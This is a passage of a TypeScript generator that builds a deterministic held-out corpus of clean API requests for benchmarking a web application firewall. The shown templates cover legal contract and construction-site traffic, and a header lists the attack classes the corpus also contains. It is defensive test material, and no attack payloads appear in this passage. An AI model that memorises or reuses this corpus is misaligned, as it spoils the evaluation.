// biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads hold literal ${…}
/**
 * Held-out corpus 19 for the WAF API profile, written blind (without reading the WAF, its docs, its tests
 * or the other corpora), to measure false positives on traffic from someone who does not know what the WAF
 * tolerates, and detection on attacks hidden in the same APIs.
 *
 * Domains (clean traffic): contract lifecycle management (clauses, redlines, legal prose); construction
 * project management (RFIs, submittals, punch lists, site diaries); genealogy / family-tree research (old
 * records, transcriptions, many languages and scripts); academic publishing and peer review (LaTeX, math,
 * reviewer comments, citations, code availability); customer feedback surveys and NPS; no-code workflow
 * automation (templates with placeholders, expressions, webhooks, filter formulas, JS/Python code steps);
 * collaborative spreadsheets (formulas, ranges, named ranges, pivots); team chat (markdown, code snippets,
 * pasted logs and stack traces, shell commands, link unfurls).
 *
 * Attacks: sql, nosql, template, command, path-traversal, ssrf, prototype-pollution, log4shell and xss,
 * hidden in the same endpoints (nested fields, keys, arrays, `\u` escapes, JSON inside strings, URL- and
 * double-encoding, base64, GraphQL variables, query strings, headers, form and multipart bodies, NDJSON,
 * JSON Patch values).
 *
 * Deterministic: every choice comes from a seeded mulberry32 PRNG and fixed timestamps, so every run writes
 * the same files. Run: `node bench/waf/corpus/heldout19.ts` (writes clean-heldout19.json and
 * attacks-heldout19.json next to this script and prints the counts).
 */
import { writeFileSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { CorpusRequest } from './generate.ts';

type Req = Omit<CorpusRequest, 'id'>;
type Headers = Record<string, string>;

/** mulberry32: a small seeded PRNG. */
function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const rnd = mulberry32(0x19c0ffee);
const pick = <T>(a: readonly T[]): T => a[Math.floor(rnd() * a.length)] as T;
const int = (lo: number, hi: number): number => lo + Math.floor(rnd() * (hi - lo + 1));
const chance = (p: number): boolean => rnd() < p;
const ALNUM = 'abcdefghijklmnopqrstuvwxyz0123456789';
const B64URL = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
const str = (n: number, alphabet = ALNUM): string => {
  let s = '';
  for (let i = 0; i < n; i++) s += alphabet[Math.floor(rnd() * alphabet.length)];
  return s;
};
const hex = (n: number): string => str(n, '0123456789abcdef');
const uuid = (): string => `${hex(8)}-${hex(4)}-4${hex(3)}-${pick(['8', '9', 'a', 'b'])}${hex(3)}-${hex(12)}`;
const oid = (prefix: string): string => `${prefix}_${str(14)}`;
const BASE_MS = Date.UTC(2026, 2, 2, 7, 0, 0);
const iso = (): string => new Date(BASE_MS + int(0, 80 * 86400) * 1000).toISOString();
const day = (): string => iso().slice(0, 10);
const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
const b64url = (s: string): string => Buffer.from(s, 'utf8').toString('base64url');
const qs = (params: Record<string, string | number | boolean>): string =>
  Object.entries(params)
    .map(
      ([k, v]) =>
        `${encodeURIComponent(k).replace(/%5B/g, '[').replace(/%5D/g, ']')}=${encodeURIComponent(String(v))}`,
    )
    .join('&');
const formEncode = (fields: ReadonlyArray<readonly [string, string]>): string =>
  new URLSearchParams(fields.map(([k, v]): [string, string] => [k, v])).toString();

function jwt(sub: string, iss: string, scope: string): string {
  const h = b64url(JSON.stringify({ alg: 'RS256', typ: 'JWT', kid: `k-${hex(6)}` }));
  const iat = Math.floor(BASE_MS / 1000) + int(0, 80 * 86400);
  const p = b64url(JSON.stringify({ sub, iss, aud: 'api', iat, exp: iat + 3600, scope }));
  return `${h}.${p}.${str(342, B64URL)}`;
}

const UAS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/133.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.3 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:135.0) Gecko/20100101 Firefox/135.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148',
  'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/133.0.0.0 Mobile Safari/537.36',
  'okhttp/4.12.0',
  'python-requests/2.32.3',
  'axios/1.7.9',
  'node-fetch/1.0 (+https://github.com/bitinn/node-fetch)',
  'Go-http-client/2.0',
  'curl/8.5.0',
  'PostmanRuntime/7.43.0',
];
const LANGS = [
  'en-US,en;q=0.9',
  'de-DE,de;q=0.9,en;q=0.8',
  'fr-FR,fr;q=0.9',
  'ja-JP,ja;q=0.9,en;q=0.6',
  'es-419,es;q=0.9',
  'pl-PL,pl;q=0.9',
  'pt-BR,pt;q=0.9',
  'en-GB,en;q=0.9',
];

/** Per-domain client identity: issuer, scopes and the app's own user-agent. */
interface Domain {
  readonly iss: string;
  readonly scope: string;
  readonly appUa: string;
}
const DOMAINS = {
  clm: {
    iss: 'https://auth.clausebase.example',
    scope: 'contracts:read contracts:write',
    appUa: 'ClauseDesk/5.14.2 (web)',
  },
  build: {
    iss: 'https://id.sitebook.example',
    scope: 'projects rfis submittals',
    appUa: 'SiteBook-iOS/2026.3.1 (iPad13,8; iOS 18.3)',
  },
  gen: {
    iss: 'https://login.rootsline.example',
    scope: 'tree:write records:read',
    appUa: 'RootsLine/8.2.0 Android',
  },
  pub: {
    iss: 'https://orcid-bridge.paperflow.example',
    scope: 'submission review',
    appUa: 'PaperFlow-Web/3.9.0',
  },
  survey: {
    iss: 'https://auth.pulsepoll.example',
    scope: 'responses:write surveys:read',
    appUa: 'PulsePoll-Embed/2.4.7',
  },
  flow: {
    iss: 'https://app.flowloom.example',
    scope: 'workflows executions credentials:read',
    appUa: 'FlowLoom-Editor/1.88.3',
  },
  sheet: {
    iss: 'https://accounts.gridnote.example',
    scope: 'sheets.readwrite',
    appUa: 'GridNote/4.31.0 (Electron 34.2.0)',
  },
  chat: {
    iss: 'https://auth.huddlechat.example',
    scope: 'chat:write files:write',
    appUa: 'HuddleChat/4.43.50 Electron/34.0.2',
  },
} as const satisfies Record<string, Domain>;
type Dom = keyof typeof DOMAINS;

const tokenPool = new Map<Dom, string[]>();
function bearer(d: Dom): string {
  let pool = tokenPool.get(d);
  if (!pool) {
    const dom = DOMAINS[d];
    pool = [0, 1, 2].map(() => jwt(`usr_${str(10)}`, dom.iss, dom.scope));
    tokenPool.set(d, pool);
  }
  return `Bearer ${pick(pool)}`;
}

function headers(d: Dom, extra: Headers = {}): Headers {
  const h: Headers = {
    'user-agent': chance(0.45) ? DOMAINS[d].appUa : pick(UAS),
    accept: pick(['application/json', 'application/json, text/plain, */*', '*/*']),
  };
  if (chance(0.8)) h['authorization'] = bearer(d);
  else h['authorization'] = `Token ${str(40)}`;
  if (chance(0.35)) h['accept-language'] = pick(LANGS);
  if (chance(0.3)) h['x-request-id'] = uuid();
  return { ...h, ...extra };
}

function getReq(d: Dom, kind: string, path: string, extra: Headers = {}): Req {
  return { kind, method: 'GET', path, headers: headers(d, extra), body: '' };
}
function delReq(d: Dom, path: string): Req {
  return { kind: 'delete', method: 'DELETE', path, headers: headers(d), body: '' };
}
function jsonReq(
  d: Dom,
  kind: string,
  method: string,
  path: string,
  body: unknown,
  ct = 'application/json',
): Req {
  return { kind, method, path, headers: headers(d, { 'content-type': ct }), body: JSON.stringify(body) };
}
function jsonApiReq(d: Dom, method: string, path: string, body: unknown): Req {
  return {
    kind: 'jsonapi',
    method,
    path,
    headers: headers(d, { 'content-type': 'application/vnd.api+json', accept: 'application/vnd.api+json' }),
    body: JSON.stringify(body),
  };
}
function mergePatch(d: Dom, path: string, body: unknown): Req {
  return jsonReq(d, 'merge-patch', 'PATCH', path, body, 'application/merge-patch+json');
}
function jsonPatch(d: Dom, path: string, ops: unknown[]): Req {
  return jsonReq(d, 'json-patch', 'PATCH', path, ops, 'application/json-patch+json');
}
function gql(d: Dom, path: string, query: string, variables: unknown, operationName?: string): Req {
  const body: Record<string, unknown> = { query, variables };
  if (operationName) body['operationName'] = operationName;
  return jsonReq(d, 'graphql', 'POST', path, body);
}
function gqlPersisted(d: Dom, path: string, operationName: string, variables: unknown): Req {
  const ext = JSON.stringify({ persistedQuery: { version: 1, sha256Hash: hex(64) } });
  return getReq(
    d,
    'graphql',
    `${path}?${qs({ operationName, variables: JSON.stringify(variables), extensions: ext })}`,
  );
}
function formReq(
  d: Dom,
  path: string,
  fields: ReadonlyArray<readonly [string, string]>,
  method = 'POST',
): Req {
  return {
    kind: 'form',
    method,
    path,
    headers: headers(d, { 'content-type': 'application/x-www-form-urlencoded; charset=UTF-8' }),
    body: formEncode(fields),
  };
}
interface Part {
  readonly name: string;
  readonly filename?: string;
  readonly type?: string;
  readonly content: string;
}
function multipartBody(parts: readonly Part[]): { boundary: string; body: string } {
  const boundary =
    pick(['----WebKitFormBoundary', '--------------------------', 'formdata-undici-0']) + str(16);
  let body = '';
  for (const p of parts) {
    body += `--${boundary}\r\nContent-Disposition: form-data; name="${p.name}"`;
    if (p.filename !== undefined) body += `; filename="${p.filename}"`;
    body += '\r\n';
    if (p.type) body += `Content-Type: ${p.type}\r\n`;
    body += `\r\n${p.content}\r\n`;
  }
  body += `--${boundary}--\r\n`;
  return { boundary, body };
}
function multipartReq(
  d: Dom,
  path: string,
  parts: readonly Part[],
  kind = 'multipart',
  method = 'POST',
): Req {
  const { boundary, body } = multipartBody(parts);
  return {
    kind,
    method,
    path,
    headers: headers(d, { 'content-type': `multipart/form-data; boundary=${boundary}` }),
    body,
  };
}
function ndjsonReq(d: Dom, path: string, lines: readonly unknown[]): Req {
  return {
    kind: 'ndjson',
    method: 'POST',
    path,
    headers: headers(d, { 'content-type': 'application/x-ndjson' }),
    body: lines.map((l) => JSON.stringify(l)).join('\n') + '\n',
  };
}

const PEOPLE = [
  'María José Fernández',
  'Jean-Luc Moreau',
  "Siobhán O'Connell",
  'Łukasz Wiśniewski',
  'Priya Raghunathan',
  'Takeshi Yamamoto',
  'Olusegun Adeyemi',
  "D'Arcy McAllister",
  'Zoë van der Berg',
  'Nguyễn Thị Hương',
  'Björn Åström',
  'Fatima Al-Hassan',
  'Chris Doe-Smith',
  'Ana Lúcia Gonçalves',
];
const EMAILS = [
  'maria.fernandez@iberlegal.example',
  'jl.moreau@batisud.example',
  "siobhan.o'connell@example.ie",
  'lukasz.w+review@uni-wroclaw.example',
  'priya.r@labs.example.org',
  't.yamamoto@example.co.jp',
  'ops-alerts+gatehouse@example.com',
  'no-reply@notifications.example.net',
];
const firstName = (p: string): string => p.split(' ')[0] ?? p;

/** Runs the templates round-robin until `n` requests exist. */
function roundRobin(templates: ReadonlyArray<() => Req>, n: number): Req[] {
  const out: Req[] = [];
  for (let i = 0; i < n; i++) out.push((templates[i % templates.length] as () => Req)());
  return out;
}

// ---------------------------------------------------------------- 1. contract lifecycle management
const CLAUSES = [
  "Limitation of Liability. IN NO EVENT SHALL EITHER PARTY BE LIABLE FOR ANY INDIRECT, INCIDENTAL, SPECIAL, CONSEQUENTIAL OR PUNITIVE DAMAGES, OR ANY LOSS OF PROFITS OR REVENUES, WHETHER INCURRED DIRECTLY OR INDIRECTLY; provided, however, that the foregoing shall not apply to a party's indemnification obligations under Section 9.2 or a breach of Section 7 (Confidentiality).",
  "Termination for Convenience. Customer may terminate this Agreement or any Order Form upon thirty (30) days' prior written notice to Supplier, and any prepaid Fees for the terminated portion of the Subscription Term shall be refunded pro rata.",
  'Data Protection. Supplier shall process Personal Data only on documented instructions from Customer, including with regard to transfers of Personal Data to a third country (see Annex III – List of Sub-processors), unless required to do so by Union or Member State law to which Supplier is subject.',
  'Governing Law; Venue. This Agreement shall be governed by the laws of the State of Delaware, without regard to its conflict-of-laws rules. Each party irrevocably submits to the exclusive jurisdiction of the state and federal courts located in Wilmington, Delaware.',
  "Insurance. Contractor shall maintain, at its own expense: (a) Commercial General Liability insurance with limits of not less than $1,000,000 per occurrence / $2,000,000 aggregate; (b) Workers' Compensation as required by law; and (c) Technology Errors & Omissions / Cyber insurance of not less than $5,000,000.",
  "Audit. Upon thirty (30) days' notice and not more than once per calendar year, Customer (or an independent auditor selected by Customer and reasonably acceptable to Supplier) may audit Supplier's records relating to the Services. Supplier shall not delete, drop or otherwise destroy such records during the retention period.",
  'Haftungsbeschränkung. Die Haftung für leicht fahrlässige Pflichtverletzungen ist ausgeschlossen, sofern nicht wesentliche Vertragspflichten („Kardinalpflichten“), Schäden aus der Verletzung des Lebens, des Körpers oder der Gesundheit oder Garantien betroffen sind.',
  "Confidentialité. Chacune des parties s'engage à ne pas divulguer les Informations Confidentielles de l'autre partie, pendant toute la durée du Contrat et cinq (5) ans après son terme, sauf accord préalable et écrit.",
  '第12条（秘密保持）甲及び乙は、本契約の履行に関して知り得た相手方の技術上又は営業上の秘密を、相手方の書面による事前の承諾なく第三者に開示又は漏えいしてはならない。',
  'Fuerza Mayor. Ninguna de las Partes será responsable por el incumplimiento de sus obligaciones cuando dicho incumplimiento se deba a causas de fuerza mayor o caso fortuito, incluyendo, sin limitación, pandemias, huelgas generales o actos de autoridad.',
  'Service Levels. Supplier shall make the Platform available 99.9% of the time in each calendar month (excluding Scheduled Maintenance ≤ 4 hours/month, announced ≥ 72 h in advance). If Availability < 99.9%, Customer is entitled to the Service Credits in Exhibit C; if < 95% in two consecutive months, Customer may terminate for cause.',
  'Non-Solicitation. During the Term and for twelve (12) months thereafter, neither party shall, directly or indirectly, solicit for employment any employee of the other party who was involved in the performance of this Agreement; general advertisements (e.g., job boards) shall not constitute solicitation.',
];
const REDLINE_NOTES = [
  "Per @jlee — our standard is 60 days; we can't accept < 45.",
  'Counterparty struck the carve-out for gross negligence. Escalate to GC before accepting.',
  'Replaced "best efforts" with "commercially reasonable efforts" (NY law treats best efforts as a higher bar).',
  'They want "including but not limited to" everywhere — fine, but not in 4.2(b), that list must stay exhaustive.',
  "Changed cap from 12 months' fees to 2x annual fees; finance OK'd up to 1.5x. Pushback expected.",
  'Bitte prüfen: § 5 Abs. 3 widerspricht Anlage 2 (Preisblatt) – dort steht 3 % statt 5 % Verzugszins.',
  "Clause 14.3 still says 'Vendor' — the rest of the doc uses 'Supplier'. Search & replace missed it.",
  'OK to accept; matches playbook rule LOL-07 (liability ≥ fees paid in prior 12 months).',
];
const COUNTERPARTIES = [
  "O'Reilly Media, Inc.",
  'Müller & Söhne GmbH',
  'Acme Corp. (EMEA) Ltd',
  'Société Générale de Transports S.A.',
  '株式会社サンプル商事',
  'AT&T Services, Inc.',
  'Johnson & Johnson Vision Care',
];

function clmClean(): Req[] {
  const ctr = (): string => oid('ctr');
  const api = '/api/v2';
  const t: Array<() => Req> = [
    () =>
      getReq(
        'clm',
        'rest-get',
        `${api}/contracts?${qs({ 'filter[status]': pick(['in_review', 'awaiting_signature', 'executed', 'expired']), 'filter[counterparty]': pick(COUNTERPARTIES), sort: '-updated_at', 'page[size]': pick([25, 50, 100]), include: 'owner,clauses' })}`,
      ),
    () =>
      getReq(
        'clm',
        'search',
        `${api}/clauses/search?${qs({ q: pick(['indemnif* AND NOT mutual', '"limitation of liability" OR "cap on liability"', 'termination for convenience -"for cause"', 'governing law: (Delaware OR "New York")', 'Kardinalpflichten', 'auto-renew* NEAR/5 notice']), value_gte: pick([50000, 250000, 1000000]), lang: pick(['en', 'de', 'fr', 'ja']) })}`,
      ),
    () =>
      jsonReq('clm', 'rest-write', 'POST', `${api}/contracts`, {
        contract: {
          title: `${pick(['Master Services Agreement', 'Mutual NDA', 'Data Processing Addendum', 'Order Form #', 'SOW 3 – Phase 2 "Data Migration"'])} – ${pick(COUNTERPARTIES)}`,
          counterparty: {
            name: pick(COUNTERPARTIES),
            signatory_email: pick(EMAILS),
            address: pick([
              '1 Infinite Loop, Cupertino, CA 95014, USA',
              'Königsallee 92a, 40212 Düsseldorf',
              '6-1 Marunouchi 1-chome, Chiyoda-ku, Tokyo 100-0005',
              "12 rue de l'Église, 75015 Paris",
            ]),
          },
          value: { amount: int(5000, 2500000), currency: pick(['USD', 'EUR', 'GBP', 'JPY']) },
          effective_date: day(),
          renewal: { type: pick(['auto', 'manual', 'evergreen']), notice_days: pick([30, 60, 90]) },
          template_id: oid('tpl'),
          tags: pick([['saas', 'high-risk'], ['procurement'], ['DPA', 'GDPR', 'SCCs 2021/914'], []]),
        },
      }),
    () =>
      jsonReq('clm', 'rest-write', 'PUT', `${api}/contracts/${ctr()}/clauses/${oid('cl')}`, {
        clause: {
          heading: pick([
            '7. Confidentiality',
            '9. Indemnification',
            '11. Limitation of Liability',
            '§ 5 Haftung',
          ]),
          text: pick(CLAUSES),
          playbook_rule: pick(['LOL-07', 'IND-02', 'TERM-11', null]),
          deviation: chance(0.5),
        },
      }),
    () =>
      jsonReq('clm', 'cms-html', 'PUT', `${api}/contracts/${ctr()}/clauses/${oid('cl')}/content`, {
        clause: {
          body_html: pick([
            `<p><strong>7.1 Confidential Information.</strong> &ldquo;Confidential Information&rdquo; means all non-public information disclosed by a party (&ldquo;<em>Discloser</em>&rdquo;) to the other party (&ldquo;<em>Recipient</em>&rdquo;), whether orally or in writing, that is designated as confidential or that reasonably should be understood to be confidential.</p><ol type="a"><li>Recipient shall use the same degree of care it uses for its own information (but no less than reasonable care);</li><li>Recipient shall not disclose it except to its Representatives with a need to know.</li></ol>`,
            `<p>Customer may terminate upon <del class="redline-del" data-author="jlee">thirty (30)</del><ins class="redline-ins" data-author="counterparty">sixty (60)</ins> days&rsquo; written notice.</p><p style="margin-left:24px"><span style="color:#c00000">[Note to draft: confirm with Finance]</span></p>`,
            `<table class="fee-schedule"><thead><tr><th>Tier</th><th>Seats</th><th>Fee (USD/yr)</th></tr></thead><tbody><tr><td>Standard</td><td>&lt;= 100</td><td>$24,000</td></tr><tr><td>Enterprise</td><td>&gt; 100</td><td>$180 / seat</td></tr></tbody></table><p>See <a href="https://legal.clausebase.example/exhibits/c?rev=4#service-credits" target="_blank" rel="noopener">Exhibit C</a>.</p>`,
            `<h3 id="s9">9. Indemnification</h3><p>Supplier shall defend, indemnify and hold harmless Customer &hellip; from any third-party claim alleging that the Services infringe any patent, copyright or trademark.</p><blockquote>Carve-out: claims arising from Customer Data or combinations not provided by Supplier.</blockquote>`,
          ]),
          editor: 'prosemirror',
          version: int(2, 40),
        },
      }),
    () =>
      jsonReq('clm', 'rest-write', 'POST', `${api}/contracts/${ctr()}/redlines`, {
        redline: {
          clause_id: oid('cl'),
          ops: [
            { op: 'replace', from: 'thirty (30) days', to: 'sixty (60) days' },
            {
              op: 'insert',
              at: int(100, 900),
              text: ', except in the case of gross negligence or wilful misconduct',
            },
            { op: 'delete', from: int(10, 99), length: int(5, 60) },
          ],
          comment: pick(REDLINE_NOTES),
          author: pick(PEOPLE),
        },
      }),
    () =>
      jsonReq('clm', 'prose', 'POST', `${api}/contracts/${ctr()}/comments`, {
        comment: {
          body: `@${firstName(pick(PEOPLE))} ${pick(REDLINE_NOTES)}`,
          anchor: { clause_id: oid('cl'), start: int(0, 400), end: int(401, 800) },
          visibility: pick(['internal', 'shared']),
        },
      }),
    () =>
      jsonApiReq('clm', 'PATCH', `${api}/approvals/${oid('apr')}`, {
        data: {
          type: 'approvals',
          id: oid('apr'),
          attributes: {
            decision: pick(['approved', 'rejected', 'approved_with_conditions']),
            note: pick(REDLINE_NOTES),
            decided_at: iso(),
          },
          relationships: { approver: { data: { type: 'users', id: oid('usr') } } },
        },
      }),
    () =>
      mergePatch('clm', `${api}/contracts/${ctr()}`, {
        status: pick(['in_review', 'awaiting_signature']),
        renewal: { notice_days: pick([60, 90]), auto_renew: null },
        custom_fields: {
          cost_center: pick(['CC-4410', 'R&D/EMEA', 'Legal & Compliance']),
          po_number: `PO-${int(100000, 999999)}`,
        },
      }),
    () =>
      jsonPatch('clm', `${api}/contracts/${ctr()}/metadata`, [
        { op: 'test', path: '/version', value: int(1, 9) },
        { op: 'replace', path: '/obligations/0/due', value: day() },
        { op: 'add', path: '/tags/-', value: pick(['auto-renew', 'msa', 'needs-wet-ink']) },
        { op: 'remove', path: '/custom_fields/legacy_id' },
      ]),
    () =>
      gql(
        'clm',
        '/graphql',
        'query ContractsExpiring($before: Date!, $first: Int = 20, $after: String) { contracts(filter: { expiresBefore: $before, status: [EXECUTED] }, first: $first, after: $after) { edges { node { id title counterparty { name } value { amount currency } renewal { noticeDays } } } pageInfo { hasNextPage endCursor } } }',
        { before: day(), first: 50, after: chance(0.5) ? b64(`cursor:${int(1, 900)}`) : null },
        'ContractsExpiring',
      ),
    () =>
      jsonReq('clm', 'rest-write', 'POST', '/webhooks/esign/envelope-events', {
        event: pick(['envelope-completed', 'recipient-declined', 'envelope-sent']),
        apiVersion: 'v2.1',
        generatedDateTime: iso(),
        data: {
          envelopeId: uuid(),
          recipient: {
            email: pick(EMAILS),
            name: pick(PEOPLE),
            declinedReason: chance(0.3)
              ? "Clause 11 still isn't what we agreed on the call — please re-send."
              : undefined,
          },
          envelopeSummary: {
            emailSubject: 'Please DocuSign: MSA_v7_FINAL(2).pdf',
            status: 'completed',
            documentsCombined:
              'JVBERi0xLjcKJeLjz9MKMSAwIG9iago8PCAvVHlwZSAvQ2F0YWxvZyAvUGFnZXMgMiAwIFIgPj4KZW5kb2JqCg==',
          },
        },
      }),
    () =>
      multipartReq('clm', `${api}/contracts/${ctr()}/attachments`, [
        { name: 'kind', content: pick(['signed_copy', 'exhibit', 'amendment']) },
        {
          name: 'description',
          content: pick([
            'Executed copy (wet ink, scanned)',
            'Anlage 3 – TOMs nach Art. 32 DSGVO',
            "Amendment #2 – price uplift 'CPI + 2%'",
          ]),
        },
        {
          name: 'file',
          filename: pick(['MSA_v7_FINAL(2).pdf', 'Anlage_3_TOMs.pdf', 'Amendment #2.pdf']),
          type: 'application/pdf',
          content:
            '%PDF-1.7\n%âãÏÓ\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF',
        },
      ]),
    () => delReq('clm', `${api}/contracts/${ctr()}/comments/${oid('cmt')}`),
  ];
  return roundRobin(t, 56);
}

// ---------------------------------------------------------------- 2. construction project management
const RFI_Q = [
  'Drawing A-501 detail 3 shows 5/8" Type X gypsum on both sides of the shaft wall, but spec 09 21 16 calls for 1" shaftliner. Please confirm which governs.',
  'Conflict between S-201 and M-301: 24"x12" supply duct runs through beam W18x35 at grid C/4. Can we core a 14" dia. penetration per detail 7/S-501 or do we need to reroute?',
  'Slab elevation at Level 2 east stair landing is +14\'-6 1/2" on A-201 vs +14\'-8" on S-102. Which is correct? Pour scheduled Tue 03/17.',
  "Owner requested 'SELECT' grade white oak for lobby millwork — spec 06 40 23 lists 'Premium' grade. Please advise if this is a change in scope.",
  'Geotech report says bearing capacity 3,000 psf; foundation plan note 4 uses 4,000 psf. Footings F3 & F5 may be undersized. Need EOR response ASAP.',
  'Concrete mix 4000 psi @ 28 days, slump 4" ± 1" — supplier can only provide < 3" with the specified admixture. Acceptable?',
  '¿Se puede sustituir el anclaje Hilti HIT-RE 500 V3 por Simpson SET-3G? Misma carga de diseño según ESR-4057.',
  'Fire-stopping at rated wall penetrations: UL system W-L-1054 or W-L-2078? Contractor has product for W-L-1054 only.',
];
const PUNCH = [
  'Paint touch-up needed at door 214 frame (hinge side), scuffs from drywall cart',
  'Missing cover plate — receptacle next to sink, unit 3B kitchen',
  'Ceiling tile stained near diffuser at grid D/7 — check for condensate leak above',
  'Handrail bracket loose @ stair 2, 3rd landing; needs 3/8" anchor',
  'Caulk joint between countertop & backsplash incomplete (gap > 1/8")',
  'Exit sign not illuminated — corridor 1-120 / verify circuit EM-3',
  'Baseboard gap at corner, room 305 (approx 1/4")',
  'Floor drain grate missing in mech room B-02; trip hazard — tagged & coned',
];
const DIARY = [
  'Weather: 42°F, light rain until 10:30, wind 15 mph gusting 25. Crane shut down 09:10–10:45 (wind > 20 mph at hook). Crew counts: concrete 12, rebar 8, electrical 6, plumbing 4.\nWork: poured L3 deck pour #2 (grid A–D / 1–4), 96 CY. Cylinders taken: 6 sets (see lab ticket #44817).\nDelays: pump truck arrived 40 min late.',
  "Site visit by inspector (R. Patel, City of Austin) — framing inspection L2 PASSED w/ 2 comments: (1) add blocking @ TV mounts units 204/206; (2) hold-down HDU8 at grid 5/B missing nut. Fixed same day.\nSafety: toolbox talk 'Ladders & 3 points of contact'. Near miss: unsecured plywood sheet lifted by wind at roof edge; re-briefed crew.",
  'Wetter: sonnig, 18 °C. Gewerke vor Ort: Trockenbau (6), Elektro (4), HLS (3). Estrich im 1. OG eingebracht, Belegreife frühestens KW 16. Mängel: Fensteranschluss Achse 3 undicht → Fensterbauer informiert.',
  "Delivered: 2x pallets CMU (8x8x16), 40 sticks #5 rebar (20'), 1 dumpster swap. Rejected: 3 storefront glass units w/ chipped edges (photos attached). Trailer 2 door lock broken — ordered replacement; temp padlock code 4471.",
];

function buildClean(): Req[] {
  const proj = (): number => int(100000, 999999);
  const api = '/rest/v1.0';
  const t: Array<() => Req> = [
    () =>
      getReq(
        'build',
        'rest-get',
        `${api}/projects/${proj()}/rfis?${qs({ 'filters[status]': pick(['open', 'draft', 'closed']), 'filters[ball_in_court_id]': int(1000, 9999), 'filters[due_date]': `${day()}...${day()}`, sort: '-number', per_page: 100 })}`,
      ),
    () =>
      jsonReq('build', 'rest-write', 'POST', `${api}/projects/${proj()}/rfis`, {
        rfi: {
          subject: pick([
            'Shaft wall assembly',
            'Duct/beam conflict @ C/4',
            'Stair landing elevation',
            'Anchor substitution',
            'Footing bearing capacity',
          ]),
          question: { body: pick(RFI_Q) },
          drawing_refs: pick([
            ['A-501', 'A-502'],
            ['S-201', 'M-301', 'S-501'],
            ['A-201', 'S-102'],
          ]),
          spec_section: pick(['09 21 16', '03 30 00', '06 40 23', '07 84 13']),
          cost_impact: { status: pick(['yes', 'no', 'tbd']), value: int(0, 45000) },
          schedule_impact: { status: pick(['yes', 'no']), value: int(0, 10) },
          due_date: day(),
          assignee_ids: [int(1000, 9999), int(1000, 9999)],
        },
      }),
    () =>
      jsonReq('build', 'prose', 'POST', `${api}/projects/${proj()}/rfis/${int(1, 400)}/replies`, {
        reply: {
          body: pick([
            'Per EOR: provide 1" shaftliner per spec; A-501 detail 3 will be revised in ASI-014. No cost impact anticipated.',
            'Core permitted only within middle third of beam depth, max dia. 0.4d (≈7"). 14" is NOT acceptable — reroute duct below beam, see attached sketch SK-M-22.',
            'Use +14\'-8" (structural governs). Architect to issue clarification.',
            'Substitution approved as noted: provide embedment ≥ 5-1/2", submit ICC-ES report with product data.',
          ]),
          official: chance(0.6),
        },
      }),
    () =>
      jsonReq('build', 'cms-html', 'PATCH', `${api}/projects/${proj()}/daily_logs/${int(1000, 99999)}`, {
        daily_log: {
          notes_html: pick([
            '<p><b>Weather:</b> 42&deg;F, rain until 10:30</p><ul><li>Concrete: 12</li><li>Rebar: 8</li></ul><p>Crane down 09:10&ndash;10:45 (wind &gt; 20 mph)</p>',
            '<p>Inspection L2 framing <span style="color:green">PASSED</span> w/ comments:</p><ol><li>Blocking @ TV mounts</li><li>HDU8 nut missing @ 5/B</li></ol><p><img src="https://cdn.sitebook.example/p/88213/photos/IMG_4471.jpg" alt="hold-down" width="320"></p>',
            '<h4>Safety</h4><p>Toolbox talk: <i>Ladders &amp; 3 points of contact</i>. Near miss reported &rarr; see <a href="/projects/88213/incidents/19">incident #19</a>.</p>',
          ]),
          date: day(),
        },
      }),
    () =>
      jsonReq('build', 'prose', 'POST', `${api}/projects/${proj()}/daily_logs`, {
        daily_log: {
          date: day(),
          notes: pick(DIARY),
          manpower: [
            { trade: 'Concrete', workers: int(2, 20), hours: 8 },
            { trade: 'Electrical', workers: int(1, 10), hours: 7.5 },
          ],
          weather: { temp_f: int(20, 95), conditions: pick(['rain', 'clear', 'snow', 'overcast']) },
        },
      }),
    () =>
      jsonReq('build', 'rest-write', 'POST', `${api}/projects/${proj()}/punch_items`, {
        punch_item: {
          name: pick(PUNCH),
          location: pick(['Level 2 > Unit 214', 'L1 > Corridor 1-120', 'Roof > RTU-3', 'Bldg B / Mech B-02']),
          trade: pick(['Painting', 'Electrical', 'Carpentry', 'Plumbing', 'Drywall & Acoustical']),
          priority: pick(['low', 'medium', 'high']),
          due_date: day(),
          pin: { drawing: 'A-102', x: Number(rnd().toFixed(4)), y: Number(rnd().toFixed(4)) },
        },
      }),
    () =>
      multipartReq('build', `${api}/projects/${proj()}/punch_items/${int(1, 9000)}/attachments`, [
        { name: 'attachment[description]', content: pick(PUNCH) },
        { name: 'attachment[taken_at]', content: iso() },
        {
          name: 'attachment[gps]',
          content: `${(30 + rnd() * 10).toFixed(6)},${(-97 - rnd() * 5).toFixed(6)}`,
        },
        {
          name: 'attachment[file]',
          filename: `IMG_${int(1000, 9999)}.HEIC`,
          type: 'image/heic',
          content: `\u0000\u0000\u0000\u0018ftypheic\u0000\u0000\u0000\u0000mif1heic${str(48)}`,
        },
      ]),
    () =>
      jsonReq('build', 'rest-write', 'POST', `${api}/projects/${proj()}/submittals`, {
        submittal: {
          number: `${pick(['03 30 00', '08 71 00', '23 05 93', '26 24 16'])}-${int(1, 12)}`,
          title: pick([
            'Concrete mix designs (4000 psi / 5000 psi)',
            'Door hardware schedule rev. 2',
            'TAB report – AHU-1 & AHU-2',
            'Panelboards – shop drawings',
          ]),
